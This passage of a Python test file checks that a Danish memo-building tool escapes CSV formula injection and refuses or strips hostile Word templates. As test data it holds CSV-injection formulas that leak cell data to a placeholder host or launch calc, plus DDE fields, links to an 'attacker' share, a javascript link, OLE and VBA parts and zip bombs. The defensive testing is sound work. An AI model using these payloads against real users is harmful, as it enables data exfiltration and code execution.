    memo = render_outputs(compose(check_file(NOTES / f"{MEMO}.yaml")), ("html",))["html"]
    control = memo.decode("utf-8").replace("<main>", "<main><script>1</script>", 1)
    (tmp / f"{CONTROL}.html").write_text(control, "utf-8")
    files.append(tmp / f"{CONTROL}.html")
    run = subprocess.run(
        [node, str(SCRIPT), str(tmp / "pdf"), *map(str, files)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert run.returncode == 0, f"{SCRIPT.name} failed:\n{run.stderr}"
    found = [json.loads(line) for line in run.stdout.splitlines()]
    return {Path(result["file"]).stem: result for result in found}


@pytest.mark.parametrize("base", HEAVY)
def test_payload_page_runs_nothing_in_chromium(browser_results, base):
    result = browser_results[base]
    assert result["console_errors"] == []
    assert result["page_errors"] == []
    assert result["csp_violations"] == []


def test_payload_pages_are_opened_with_their_policy_in_force(browser_results):
    result = browser_results[CONTROL]
    assert [v.split()[0] for v in result["csp_violations"]] == ["script-src-elem"]


# --- spreadsheet formulas in the round's CSV --------------------------------------------------

# From OWASP's "CSV Injection" page and the payloads it cites: each would run as a formula in
# Excel, LibreOffice or Sheets if it stood at the start of a cell.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1&B1,"Klik her")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://example.invalid/?v=", CONCATENATE(A2:E2)), "//a")',
]


def test_csv_cells_are_never_formulas_and_amounts_stay_numbers(tmp_path):
    notes = tmp_path / "notes"
    notes.mkdir()
    text = (NOTES / "BI19.yaml").read_text("utf-8")
    names = re.findall(r"(?m)^    - navn: (.*)$", text)[:3]  # the three activities
    # Written as JSON strings, which YAML reads as double-quoted scalars (with \t and \n).
    text = text.replace(
        "titel: Forankring af metoder fra Projekt Trædesten", f"titel: {json.dumps(FORMULAS[0])}"
    )
    for name, formula in zip(
        names, ["To\nlinjer\r\nog mere", FORMULAS[1], FORMULAS[3]], strict=False
    ):
        text = text.replace(f"- navn: {name}\n", f"- navn: {json.dumps(formula)}\n", 1)
    (notes / "BI19.yaml").write_text(text, "utf-8")
    result = CliRunner().invoke(main, ["build", str(notes), "--out", str(tmp_path / "build")])
    assert result.exit_code == 0, result.output
    data = (tmp_path / "build" / "aktiviteter.csv").read_bytes().decode("utf-8-sig")
    assert "\n" not in data.replace("\r\n", "")  # one line per row: no break inside a cell
    header, *rows = csv.reader(io.StringIO(data), delimiter=";")
    amount, year = header.index("Beløb"), header.index("År")
    seen = set()
    for row in rows:
        for column, cell in enumerate(row):
            if column in (amount, year):
                Decimal(cell.replace(",", "."))  # a number, as written before
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
                seen.add(cell)
    assert "'" + FORMULAS[0] in seen
    assert any(cell.startswith("'+1+cmd") for cell in seen)
    assert any(cell.startswith("'@SUM") for cell in seen)
    assert "To linjer og mere" in seen
    for formula in FORMULAS:
        assert csv_text(formula) == "'" + formula


# --- Word templates: nothing active or external is carried into the outputs -----------------

HOUSE = ROOT / "templates" / "husformat.docx"
_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_MB = 1024 * 1024


def _template(path: Path, parts: dict[str, bytes | Callable[[bytes], bytes]]) -> Path:
    """Write the house template with parts added (bytes) or changed (a function of the old)."""
    with zipfile.ZipFile(HOUSE) as house:
        old = {name: house.read(name) for name in house.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in {**old, **{n: p for n, p in parts.items() if n not in old}}.items():
            change = parts.get(name)
            out.writestr(name, change(data) if callable(change) else (change or data))
    return path


def _add_rel(rel: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def _rels(*rels: str) -> bytes:
    return f'<Relationships xmlns="{_RELS_NS}">{"".join(rels)}</Relationships>'.encode()


def _in_footer(xml: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</w:ftr>", xml.encode() + b"</w:ftr>")


def _in_header(xml: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</w:hdr>", xml.encode() + b"</w:hdr>")


def _rel(r_id: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{r_id}" Type="{kind}" Target="{target}"{mode}/>'


_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{a}</w:instrText></w:r>'
    '<w:r><w:instrText>{b}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_HEADER_RELS = "word/_rels/header1.xml.rels"
_FOOTER_RELS = "word/_rels/footer1.xml.rels"

# (id, parts, words the refusal must say)
REFUSED_TEMPLATES = [
    (
        "dde-field-in-footer",
        {
            "word/footer1.xml": _in_footer(
                "<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"'>"
                "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
            )
        },
        "feltet DDEAUTO",
    ),
    (
        "includepicture-split-over-runs-in-header",
        {
            "word/header1.xml": _in_header(
                _FIELD.format(a="INCLUDEPIC", b='TURE "\\\\\\\\attacker\\\\share\\\\a.png" \\d')
            )
        },
        "feltet INCLUDEPICTURE",
    ),
    (
        "includetext-in-footer",
        {"word/footer1.xml": _in_footer(_FIELD.format(a=" INCLUDETEXT ", b='"http://x/a.docx"'))},
        "feltet INCLUDETEXT",
    ),
    (
        "javascript-link-in-footer",
        {
            "word/footer1.xml": _in_footer(
                f'<w:p><w:hyperlink xmlns:r="{_R_NS}" r:id="rIdJ"><w:r><w:t>Klik</w:t></w:r>'
                "</w:hyperlink></w:p>"
            ),
            _FOOTER_RELS: _rels(_rel("rIdJ", f"{_R_NS}/hyperlink", "javascript:alert(1)")),
        },
        "javascript:alert(1)",
    ),
    (
        "hyperlink-field-to-a-file",
        {"word/footer1.xml": _in_footer(_FIELD.format(a="HYPERLINK ", b='"file:///C:/x.exe"'))},
        "feltet HYPERLINK til file:///C:/x.exe",
    ),
    (
        "external-image-in-header",
        {
            "word/header1.xml": _in_header(
                f'<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
                f'xmlns:r="{_R_NS}" r:id="rIdI"/></w:pict></w:r></w:p>'
            ),
            _HEADER_RELS: _rels(_rel("rIdI", f"{_R_NS}/image", "\\\\attacker\\share\\logo.png")),
        },
        "attacker",
    ),
    (
        "ole-object-in-header",
        {
            "word/header1.xml": _in_header(
                "<w:p><w:r><w:object><o:OLEObject "
                'xmlns:o="urn:schemas-microsoft-com:office:office" '
                f'xmlns:r="{_R_NS}" r:id="rIdO" ProgID="Package"/></w:object></w:r></w:p>'
            ),
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(100),
            _HEADER_RELS: _rels(
                _rel("rIdO", f"{_R_NS}/oleObject", "embeddings/oleObject1.bin", False)
            ),
            "[Content_Types].xml": lambda d: d.replace(
                b"</Types>",
                b'<Default Extension="bin" '
                b'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>',
            ),
        },
        "indlejret objekt (OLE)",
    ),
]


def _render_with(template: Path, folder: Path):
    return CliRunner().invoke(
        main,
        [
            "render",
            str(NOTES / "BI19.yaml"),
            "-o",
            str(folder),
            "-f",
            "docx",
            "--template",
            str(template),
        ],
    )


@pytest.mark.parametrize(
    ("parts", "words"), [c[1:] for c in REFUSED_TEMPLATES], ids=[c[0] for c in REFUSED_TEMPLATES]
)
def test_a_template_that_would_fetch_or_run_something_is_refused_naming_it(tmp_path, parts, words):
    template = _template(tmp_path / "skabelon.docx", parts)
    result = _render_with(template, tmp_path / "ud")
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert "Word-skabelonen har indhold, der henter eller kører noget" in result.output
    assert words in result.output
    assert not (tmp_path / "ud").exists()


def _package(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def test_an_attached_template_a_mail_merge_source_and_a_vba_project_are_dropped(tmp_path):
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    template = _template(
        tmp_path / "skabelon.docx",
        {
            "word/settings.xml": lambda d: d.replace(
                b"</w:settings>",
                f'<w:attachedTemplate xmlns:r="{_R_NS}" r:id="rIdT"/>'.encode()
                + b"<w:mailMerge>"
                + f'<w:dataSource xmlns:r="{_R_NS}" r:id="rIdM"/>'.encode()
                + b"</w:mailMerge>"
                + b"</w:settings>",
            ),
            "word/_rels/settings.xml.rels": _rels(
                _rel("rIdT", f"{_R_NS}/attachedTemplate", "file://attacker/share/Normal.dotm"),
                _rel("rIdM", f"{_R_NS}/mailMergeSource", "file:///C:/kilder/adresser.xlsx"),
            ),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0vbaProject" + bytes(100),
            "word/_rels/document.xml.rels": _add_rel(_rel("rIdV", vba, "vbaProject.bin", False)),
            "[Content_Types].xml": lambda d: d.replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                b"</Types>",
            ),
        },
    )
    result = _render_with(template, tmp_path / "ud")
    assert result.exit_code == 0, result.output
    parts = _package(tmp_path / "ud" / "BI19.docx")
    everything = b"".join(parts.values())
    assert not any("vbaProject" in name for name in parts)
    for left_out in (
        b"attachedTemplate",
        b"attacker",
        b"mailMerge",
        b"adresser.xlsx",
        b"vbaProject",
    ):
        assert left_out not in everything, left_out


def test_a_template_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    import tracemalloc

    bomb = b"\0" * (60 * _MB)  # packs to 60 kB: a part over MAX_TEMPLATE_PART, linked as image
    template = _template(
        tmp_path / "bombe.docx",
        {
            "word/media/image1.png": bomb,
            _HEADER_RELS: _rels(_rel("rIdB", f"{_R_NS}/image", "media/image1.png", False)),
        },
    )
    del bomb
    assert template.stat().st_size < 2 * _MB
    tracemalloc.start()
    try:
        result = _render_with(template, tmp_path / "ud")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.exit_code == 1, result.output
    assert "Word-skabelonen er for stor: delen word/media/image1.png fylder 60 MB" in result.output
    assert "MAX_TEMPLATE_PART" in result.output
    assert peak < 30 * _MB  # the part was never unpacked
    assert not (tmp_path / "ud").exists()


def test_a_part_that_unpacks_a_thousand_times_is_refused(tmp_path):
    template = _template(
        tmp_path / "bombe.docx",
        {
            "word/media/image1.png": b"\0" * (4 * _MB),
            _HEADER_RELS: _rels(_rel("rIdB", f"{_R_NS}/image", "media/image1.png", False)),
        },
    )
    result = _render_with(template, tmp_path / "ud")
    assert result.exit_code == 1, result.output
    assert "MAX_TEMPLATE_RATIO" in result.output and "zip-bombe" in result.output


def test_the_house_template_and_its_http_links_are_trusted(tmp_path):
    template = _template(
        tmp_path / "skabelon.docx",
        {
            "word/footer1.xml": _in_footer(
                f'<w:p><w:hyperlink xmlns:r="{_R_NS}" r:id="rIdH"><w:r><w:t>kk.dk</w:t></w:r>'
                "</w:hyperlink></w:p>"
            ),
            _FOOTER_RELS: _rels(_rel("rIdH", f"{_R_NS}/hyperlink", "https://www.kk.dk/")),
        },
    )
    result = _render_with(template, tmp_path / "ud")
    assert result.exit_code == 0, result.output
    assert b"https://www.kk.dk/" in _package(tmp_path / "ud" / "BI19.docx")[_FOOTER_RELS]
